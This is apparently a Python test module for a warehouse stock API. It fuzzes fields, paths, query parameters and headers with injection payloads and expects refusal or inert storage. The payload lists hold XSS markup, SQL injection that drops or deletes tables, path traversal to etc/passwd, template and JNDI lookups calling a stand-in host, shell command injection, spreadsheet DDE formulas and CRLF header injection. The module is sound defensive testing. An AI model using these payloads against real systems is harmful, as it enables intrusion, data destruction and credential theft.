"""Injection: markup, SQL, paths, templates, formulas and line breaks, to be stored as text."""

from collections.abc import Callable, Sequence
from functools import partial
from urllib.parse import quote

from tests.corpus.case import Answer, Body, Make, Seat, invalid, unaddressed
from tests.corpus.commands import TEXT_FIELDS, labelled, outcome_of, receive, text
from tests.corpus.identifiers import body_of
from tests.corpus.limits import is_good
from tests.corpus.requests import Ask, Asked, get, post, refused

CALLS = ("alert(1)", "alert`1`", "confirm(1)", "fetch('//e')", "eval(name)", "top['al'+'ert'](1)")
TAGS = ("svg", "img", "body", "video", "audio", "details", "iframe", "marquee", "math", "input")
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onstart", "onmouseover", "onbegin")
MARKUP = (
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<{t} {e}={c}>",
    "<{t}/{e}={c}//",
    '"><{t} {e}={c}>',
    "'><{t} {e}={c}>",
    "--><{t} {e}={c}>",
    "]]><{t} {e}={c}>",
    "<a href=javascript:{c}>x",
    "[x](javascript:{c})",
    "![x](x'{e}='{c})",
    "&lt;{t} {e}={c}&gt;",
    "&#60;{t} {e}={c}&#62;",
    "\\u003c{t} {e}={c}\\u003e",
    "<{t} style=x {e}={c}",
    "<object data=data:text/html,{c}>",
    "<base href=//e><{t}>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=import href=//e>",
    "javascript:/*--></title>*/{c}",
    "${{{c}}}",
    "`-{c}-`",
    "';{c}//",
)
STATEMENTS = ("DROP TABLE audit.log", "SELECT pg_sleep(9)", "DELETE FROM audit.log", "SELECT 1")
SQL = (
    "'; {s}; --",
    '"; {s}; --',
    "'); {s}; --",
    "1; {s}",
    "' OR '1'='1",
    "' OR 1=1 --",
    "' UNION {s} --",
    "$${s}$$",
    "\\'; {s}; --",
    "'||({s})||'",
    "/*!50000{s}*/",
    "%27; {s}; --",
    "\u02bc; {s}; --",
    "\uff07; {s}; --",
    "$1; {s}",
    "E'\\x27'; {s}",
)
PARENTS = ("../", "..\\", "....//", "%2e%2e%2f", "..%2f", "%2e%2e/", "..%c0%af", "..%252f", "./../")
TARGETS = (
    "etc/passwd",
    "proc/self/environ",
    "windows/win.ini",
    ".stockyard/run/state.json",
    "app.py",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "${jndi:ldap://e/a}",
    "${${lower:j}ndi:rmi://e}",
    "{0.__class__}",
    "%(password)s",
    "%s%s%s%n",
    "{event.__globals__}",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "$IFS$9id",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system [id]",
    "[bold red]x[/]",
    "[/]",
    "[link=http://e]x[/link]",
    "[@click=app.bell]x[/]",
    "[bold",
)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://e\")",
    "=WEBSERVICE(1)",
    "\t=1+1", "\r=1+1", "=IMPORTXML(1,2)", "=DDE(\"cmd\")", "+cmd|'/C calc'!A0", "%0A=1+1", ";=1+1",
    "\uff1d1+1", "\"=1+1\"", "'=1+1",
)  # fmt: skip
BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\\r\\n", "\x0b", "\x85")
LINES = (
    "Set-Cookie: a=1",
    "X-Min-Position: 0:0",
    "\r\n<script>alert(1)</script>",
    '{"type":"Tick"}',
)
FIELDS = (*TEXT_FIELDS, "id", "warehouse")


def _markup(seat: Seat, shape: str) -> str:
    rng = seat.rng
    return shape.format(c=rng.choice(CALLS), t=rng.choice(TAGS), e=rng.choice(EVENTS))


def _sql(seat: Seat, shape: str) -> str:
    return shape.format(s=seat.rng.choice(STATEMENTS))


def _traversal(seat: Seat, parent: str) -> str:
    return parent * seat.rng.randint(1, 4) + seat.rng.choice(TARGETS)


def _broken_line(seat: Seat, lines: str) -> str:
    return f"a{lines}{seat.rng.choice(LINES)}"


def _into(seat: Seat, payload: str) -> Body:
    """The payload in a field, another one each time; an id has the case's own before it."""
    field = FIELDS[seat.turn % len(FIELDS)]
    if field == "warehouse":  # every payload has a character that no warehouse has, or is made to
        payload = payload if not is_good("warehouse", payload) else f"{payload}/"
        return body_of(seat, field, payload)
    if field == "id":
        return _into_id(seat, payload)
    return body_of(seat, field, payload)


def _into_id(seat: Seat, payload: str) -> Body:
    value = f"{seat.id}{payload}"
    command = text(receive(seat, quantity=5) | {"id": value})
    if not is_good("id", value):
        return Body(command, unaddressed("id"))
    return Body(command, outcome_of("actor"), (("command_id", value),))


def _into_name(seat: Seat, payload: str) -> Body:
    """The payload as the name of a field: the refusal tells it."""
    return Body(text(receive(seat) | {payload: 1}), invalid(payload))


def _into_type(seat: Seat, payload: str) -> Body:
    return Body(text(labelled(seat, "actor", "a") | {"type": payload}), invalid("type"))


def _as_it_is(seat: Seat, payload: str) -> str:
    return payload


def _filled(seat: Seat, shape: str, fill: Callable[[Seat, str], str]) -> Body:
    return _into(seat, fill(seat, shape))


def _named(
    family: str, payloads: Sequence[str], fill: Callable[[Seat, str], str]
) -> dict[str, Make]:
    return {
        f"{family} {number}": partial(_filled, shape=one, fill=fill)
        for number, one in enumerate(payloads, 1)
    }


BODIES: dict[str, Make] = {
    **_named("markup", MARKUP, _markup),
    **_named("SQL", SQL, _sql),
    **_named("traversal", PARENTS, _traversal),
    **_named("template", TEMPLATES, _as_it_is),
    **_named("formula", FORMULAS, _as_it_is),
    **_named("line break", BREAKS, _broken_line),
    "markup in a field's name": lambda s: _into_name(s, _markup(s, s.rng.choice(MARKUP))),
    "template in a field's name": lambda s: _into_name(s, s.rng.choice(TEMPLATES)),
    "escape sequence in a field's name": lambda s: _into_name(s, "\x1b[2J\x1b]0;x\x07"),
    "markup in the type": lambda s: _into_type(s, _markup(s, s.rng.choice(MARKUP))),
    "SQL in the type": lambda s: _into_type(s, _sql(s, s.rng.choice(SQL))),
}

PLACES = (
    "/v1/stock/W/{}",
    "/v1/reservations/W/{}",
    "/v1/commands/W/{}",
    "/v1/{}",
    "/docs/assets/{}",
)
RULES = ("sku", "reservation", "id")


def _asked(seat: Seat, payload: str) -> Asked:
    """The payload in a path: nothing of that name is there."""
    place = PLACES[seat.turn % len(PLACES)]
    target = place.format(quote(payload, safe=""))
    if place in PLACES[3:]:
        bad = place == PLACES[4] and "/" not in payload
        return get(target), refused(400 if bad else 404)
    rule = RULES[PLACES.index(place)]
    return get(target), refused(404 if is_good(rule, payload) else 400)


def _queried(seat: Seat, payload: str) -> Asked:
    """The payload in a parameter: a page of nothing, or refused."""
    name = seat.rng.choice(("sku", "warehouse", "after", "limit"))
    target = f"/v1/stock?{name}={quote(payload, safe='')}"
    if name == "sku" and is_good("sku", payload):
        return get(target), Answer(200)
    return get(target), refused(400, "INVALID_REQUEST")


def _header(seat: Seat) -> Asked:
    """A line break in a header's value ends the header: what follows is one more, of no effect."""
    given = seat.rng.choice((b"Idempotency-Key", b"X-Request-Id", b"User-Agent"))
    more = given + b": a\r\nSet-Cookie: injected=1"
    command = text(receive(seat) | {"id": "a"})
    return post(command, more), Answer(200, "StockReceived")


def _bare_break(seat: Seat) -> Asked:
    """A carriage return alone, or NUL, is no part of a header."""
    odd = seat.rng.choice((b"a\rb", b"a\x00b"))
    return get("/v1/stock/W/A", b"X-Min-Position: " + odd), refused(400)


def _markup_position(seat: Seat) -> Asked:
    payload = _markup(seat, seat.rng.choice(MARKUP)).encode()
    return get("/v1/stock/W/A", b"X-Min-Position: " + payload), refused(
        400, "INVALID_REQUEST", "header.X-Min-Position"
    )


ASKED: dict[str, Ask] = {
    "asked for: markup": lambda s: _asked(s, _markup(s, s.rng.choice(MARKUP))),
    "asked for: SQL": lambda s: _asked(s, _sql(s, s.rng.choice(SQL))),
    "asked for: traversal": lambda s: _asked(s, _traversal(s, s.rng.choice(PARENTS))),
    "asked for: template": lambda s: _asked(s, s.rng.choice(TEMPLATES)),
    "asked for: line break": lambda s: _asked(s, _broken_line(s, s.rng.choice(BREAKS))),
    "parameter: markup": lambda s: _queried(s, _markup(s, s.rng.choice(MARKUP))),
    "parameter: SQL": lambda s: _queried(s, _sql(s, s.rng.choice(SQL))),
    "parameter: traversal": lambda s: _queried(s, _traversal(s, s.rng.choice(PARENTS))),
    "parameter: template": lambda s: _queried(s, s.rng.choice(TEMPLATES)),
    "header: line break": _header,
    "header: bare carriage return": _bare_break,
    "header: markup": _markup_position,
}
